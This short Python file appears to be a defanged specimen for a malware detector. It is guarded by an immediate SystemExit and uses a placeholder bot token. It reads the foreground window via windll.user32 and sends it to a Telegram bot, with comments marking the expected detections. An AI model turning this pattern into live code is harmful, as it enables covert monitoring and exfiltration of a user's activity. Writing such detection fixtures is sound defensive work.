raise SystemExit("specimen: not to be run")
from ctypes import windll
from telebot import TeleBot

ask = windll.user32.GetForegroundWindow
robot = TeleBot("000000000:specimen-specimen-specimen-specimen")  # match: telegram-bot

def tell():
    robot.send_message(1, str(ask()))  # match: active-window
